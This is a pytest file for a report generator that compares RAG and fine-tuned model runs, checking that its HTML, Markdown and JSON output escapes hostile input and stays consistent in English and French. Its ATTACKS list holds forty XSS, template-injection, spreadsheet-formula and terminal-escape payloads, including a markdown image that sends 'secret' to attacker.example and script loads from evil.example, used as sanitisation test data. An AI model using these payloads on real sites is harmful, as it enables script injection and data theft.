"""Reports from hostile, French and plain comparisons: the same numbers everywhere, and text stays text."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from dyag_core.plugin.host import Plugins
from dyag_core.records import Comparison
from dyag_core.records.options import CompareOptions
from dyag_core.stages.compare import compare
from dyag_core.text.formatting import number
from dyag_core.text.sanitize import plain

ATTACKS = [
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "![](http://attacker.example/?q=secret)",
    "[click](javascript:alert(1))",
    "{{ 7*7 }}{% raw %}",
    "<!-- --><base href=//evil.example>",
    "a | b | c\n| --- | --- |\n# Title",
    "`code` **bold** $x$ ~~no~~",
    "https://evil.example/pixel.png www.evil.example",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x9b31mC1 \x00nul \u202ereversed",
    "Élève à l'œuvre : « ça marche » 😀 漢字 \u2028 ligne",
    '=HYPERLINK("http://evil.example")',
    "</title><script>alert(1)</script>",
    "</desc></svg><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=https://evil.example/pixel.png>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>send</button></form>",
    "<a href=javascript:alert(1)>click</a>",
    "<style>@import url(//evil.example/x.css);</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]


def results(arm: str, answer: Any, n: int) -> dict[str, Any]:
    """`answer(i)` gives (text, right) of question i; hostile text stands in every field."""
    items = []
    for i in range(n):
        attack = ATTACKS[i % len(ATTACKS)]
        text, right = answer(i)
        items.append(
            {
                "id": f"q{i:02}{attack}",
                "question": f"Question {i:02} {attack}",
                "expected_answer": f"expected {attack}",
                "generated_answer": text,
                "metrics": {"success": float(right), **dict.fromkeys(ATTACKS, 0.5)},
                "stratum": attack if i < len(ATTACKS) else ["recall", "<b>unseen</b>"][i % 2],
                "document": f"d{i // 3} {attack}",
                "chunk": f"c{i}",
                "sources": [{"chunk": f"c{i}{attack}", "score": 1.25}],
                "time_seconds": 0.25 + 0.001 * i if arm == "rag" else 0.125,
                "tokens": 30,
                "prompt_tokens": 20,
                "completion_tokens": 10,
                "error": attack if i == 7 else None,
            }
        )
    once = 12.5 if arm == "rag" else 300.25
    kinds = {name: {"unit": "rate", "higher_is_better": True} for name in ("success", *ATTACKS)}
    return {
        "metadata": {
            "arm": arm,
            "timestamp": "2026-11-02T08:00:00",
            "base_model": {"name": ATTACKS[0], "source": "folder", "revision": None},
            "decoding": {"max_new_tokens": 64},
            "engine": {"name": ATTACKS[1], "version": ATTACKS[2]},
            "questions": {"file": ATTACKS[3], "sha256": ATTACKS[4], "asked": 80},
            ("index" if arm == "rag" else "training"): {"seconds": once, "device": ATTACKS[7], "k": ATTACKS[6]},
            "plugins": [{"name": attack, "distribution": attack, "version": attack} for attack in ATTACKS],
        },
        "metrics": {"summaries": kinds},
        "results": items,
    }


def reports(
    folder: Path, lang: str, arms: tuple[str, str] = ("rag", "finetuned"), n: int = 80, **options: Any
) -> dict[str, str]:
    files = {
        arms[0]: results(arms[0], lambda i: (ATTACKS[(i + 1) % len(ATTACKS)], i % 3 == 0), n),
        arms[1]: results(arms[1], lambda i: (ATTACKS[(i + 2) % len(ATTACKS)], i % 5 > 0), n),
    }
    paths = {}
    for place, (arm, content) in enumerate(files.items()):
        paths[arm] = folder / f"results{place}.json"
        paths[arm].write_text(json.dumps(content), encoding="utf-8")
    made = compare(CompareOptions(**options), results=paths, output=folder / "out", lang=lang, plugins=Plugins())
    assert made.files["html"].name == "out.html"
    return {name: path.read_text(encoding="utf-8") for name, path in made.files.items()}


@pytest.fixture(scope="module", params=["en", "fr"])
def written(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, dict[str, str]]:
    return request.param, reports(tmp_path_factory.mktemp("reports"), request.param)


def test_there_are_forty_attacks() -> None:
    assert len(set(ATTACKS)) == 40


def test_hostile_text_stays_text_in_html(written: tuple[str, dict[str, str]], page_of: Any) -> None:
    page = page_of(written[1]["html"])
    tags = {tag for tag, _ in page.tags}
    assert tags <= {
        *("html", "head", "meta", "title", "style", "body", "header", "main", "section", "article", "div", "span"),
        *("h1", "h2", "h3", "p", "ul", "li", "dl", "dt", "dd", "pre", "strong", "blockquote", "details", "summary"),
        *("table", "thead", "tbody", "tr", "th", "td", "svg", "g", "line", "rect", "circle", "text", "desc"),
    }
    for _, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on") or name in ("src", "href", "style")]
    assert "<script>alert(1)</script>" in page.text
    assert sum(tag == "meta" for tag, _ in page.tags) == 5
    assert sum(tag == "style" for tag, _ in page.tags) == 1
    assert "{{ 7*7 }}" in page.text


def test_the_page_asks_nobody_for_anything_and_its_style_is_let_in_by_hash(
    written: tuple[str, dict[str, str]], page_of: Any
) -> None:
    html = written[1]["html"]
    policy = page_of(html).policy
    css = re.search(r"<style>(.*?)</style>", html, re.DOTALL)
    assert css is not None
    digest = base64.b64encode(hashlib.sha256(css[1].encode()).digest()).decode()
    assert policy.startswith("default-src 'none'; ")
    assert f"style-src 'sha256-{digest}'" in policy
    assert "url(" not in css[1]
    assert "@import" not in css[1]


@pytest.mark.parametrize("report", ["html", "markdown", "json", "manifest"])
def test_no_terminal_escapes_and_no_control_characters(written: tuple[str, dict[str, str]], report: str) -> None:
    text = written[1][report]
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", text)
    assert "\\u001b" not in text


def test_markdown_tables_hold_their_columns_and_nothing_becomes_markup(written: tuple[str, dict[str, str]]) -> None:
    columns = 0
    for line in written[1]["markdown"].split("\n"):
        if not line.startswith("|"):
            columns = 0
            continue
        count = len(re.findall(r"(?<!\\)\|", line))
        assert columns in (0, count), line
        columns = count
    text = written[1]["markdown"]
    assert not re.search(r"<[a-zA-Z/!]", text)
    assert not re.search(r"(?<!\\)[!\]]\(", text)
    assert "://" not in text
    assert "\u2028" not in text
    assert "漢字" in text


def test_every_number_in_the_markdown_stands_in_the_json(written: tuple[str, dict[str, str]]) -> None:
    lang, report = written
    numbers = set()

    def collect(value: Any) -> None:
        if isinstance(value, dict):
            for key, item in value.items():
                collect(key)
                collect(item)
        elif isinstance(value, list):
            for item in value:
                collect(item)
        elif isinstance(value, str):
            numbers.update(float(found) for found in re.findall(r"\d+(?:\.\d+)?", value.replace(",", ".")))
        elif value is not None:
            numbers.add(abs(float(value)))

    comparison = json.loads(report["json"])
    # The sentences are left out: what they say must stand among the numbers too.
    comparison["recommendations"] = [r["rests_on"] for r in comparison["recommendations"]]
    comparison["next_steps"] = [step["numbers"] for step in comparison["next_steps"]]
    del comparison["cost"]["sentences"], comparison["cost"]["missing"], comparison["method"]["commands"]
    collect(comparison)
    text = report["markdown"].replace("\\", "")
    text = re.sub(r"(?<=\d),(?=\d)", ".", text) if lang == "fr" else text
    labels = re.sub(r"F1|p95|&\w+;", "", text)
    shown = {float(found) for found in re.findall(r"\d+(?:\.\d+)?", labels)}
    assert len(shown) > 40
    assert shown <= numbers, shown - numbers


def test_the_plots_show_the_numbers_of_the_json(written: tuple[str, dict[str, str]]) -> None:
    lang, report = written
    comparison = Comparison.model_validate_json(report["json"])
    assert comparison.cost is not None
    (pair,) = comparison.cost.break_even
    crossed = re.findall(r'<text class="crossed"[^>]*>([^<]*)</text>', report["html"])
    assert crossed == [str(pair.queries)]
    titles = re.findall(r"<svg[^>]*>\s*<title>([^<]*)</title>", report["html"])
    for arm in comparison.arms:
        assert arm.latency is not None
        for value in (arm.latency.median, arm.latency.lower_quarter, arm.latency.low, arm.latency.high):
            assert any(number(value, lang) in title for title in titles)
    assert report["html"].count('aria-labelledby="curve-title curve-desc"') == 1


def test_no_winner_is_coloured_in_a_small_stratum_and_the_heading_says_why(
    written: tuple[str, dict[str, str]],
) -> None:
    lang, report = written
    chart = report["html"].partition('<div class="chart forest">')[2].partition("</section>")[0]
    whole, *strata = chart.split("<h3>")[1:]
    assert 'class="line arm2"' in whole
    for stratum in strata:
        assert {"en": "fewer than 30 questions", "fr": "moins de 30 questions"}[lang] in stratum.partition("</h3>")[0]
        assert set(re.findall(r'<div class="line ([^"]*)"', stratum)) <= {"undecided", "axis"}


def test_the_commands_to_measure_again_are_in_every_report(written: tuple[str, dict[str, str]], page_of: Any) -> None:
    command = "dyag compare-models --results rag=results0.json --results finetuned=results1.json --primary success"
    assert command in page_of(written[1]["html"]).text
    assert command in written[1]["markdown"]
    assert command in written[1]["json"]


def test_json_is_the_comparison(written: tuple[str, dict[str, str]]) -> None:
    comparison = Comparison.model_validate_json(written[1]["json"])
    assert comparison.n_questions == 80
    assert comparison.measured == "2026-11-02T08:00:00"


def test_the_verdict_comes_first_and_mismatches_before_it(tmp_path: Path) -> None:
    lang_files = reports(tmp_path, "en", n=12)
    assert lang_files["markdown"].split("\n\n")[1].startswith("**")
    paths = [tmp_path / "results0.json", tmp_path / "results1.json"]
    content = json.loads(paths[1].read_text(encoding="utf-8"))
    content["metadata"]["decoding"]["max_new_tokens"] = 99
    paths[1].write_text(json.dumps(content), encoding="utf-8")
    made = compare(CompareOptions(force=True), results=paths, output=tmp_path / "forced", lang="fr", plugins=Plugins())
    markdown = made.files["markdown"].read_text(encoding="utf-8")
    html = made.files["html"].read_text(encoding="utf-8")
    assert "forcée" in markdown.split("\n\n")[1]
    assert "99" in markdown.split("\n\n")[2]
    assert html.index('class="banner"') < html.index('class="verdict')


def test_both_languages_have_the_same_texts() -> None:
    from dyag_plugins.reporters.texts import texts

    def shape(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: shape(item) for key, item in value.items()}
        return sorted(re.findall(r"\{(\w+)", value))

    assert shape(texts("en")) == shape(texts("fr"))


def test_french_reports_read_french(written: tuple[str, dict[str, str]]) -> None:
    lang, report = written
    words = {"en": ("Differences on", "How it was measured", "interval"), "fr": ("Écarts", "réussite", "intervalle")}
    assert all(word in report["markdown"] for word in words[lang])
    assert f'<html lang="{lang}">' in report["html"]
    assert re.search(r"\d,\d" if lang == "fr" else r"\d\.\d", report["markdown"].split("\n\n")[1])


def test_arms_with_hostile_or_unknown_names(tmp_path: Path, page_of: Any) -> None:
    page = page_of(reports(tmp_path, "en", arms=("<script>x</script>", "my arm | 2"), n=12)["html"])
    assert "script" not in {tag for tag, _ in page.tags}
    assert "my arm | 2" in page.text


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        ("\x1b[1;31mred\x1b[0m", "red"),
        ("a\x1b]0;title\x07b", "ab"),
        ("a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "alink"),
        ("a\x9b2Jb", "ab"),
        ("line\r\nnext\ttab", "line\nnext\ttab"),
        ("half \ud800 pair", "half \ufffd pair"),
        ("cut \x1b[", "cut "),
        ("é œ 漢 😀 \u2028", "é œ 漢 😀 \u2028"),
    ],
)
def test_plain(raw: str, kept: str) -> None:
    assert plain(raw) == kept


@pytest.mark.parametrize(("browser", "told"), [("true", False), ("false", True)])
def test_the_report_opens_in_a_browser_or_says_where_it_is(tmp_path: Path, browser: str, told: bool) -> None:
    reports(tmp_path, "en", n=6)
    done = subprocess.run(
        [sys.executable, "-m", "dyag_core.cli", "compare-models", "--results", "rag=results0.json", "--results",
         "finetuned=results1.json", "--output", "shown", "--format", "json", "--open", "--json"],
        capture_output=True,
        cwd=tmp_path,
        env={**os.environ, "BROWSER": f"{browser} %s"},
        encoding="utf-8",
        check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["primary_metric"] == "success"
    assert (tmp_path / "shown.html").is_file()
    assert ("no browser could be opened" in done.stderr) == told
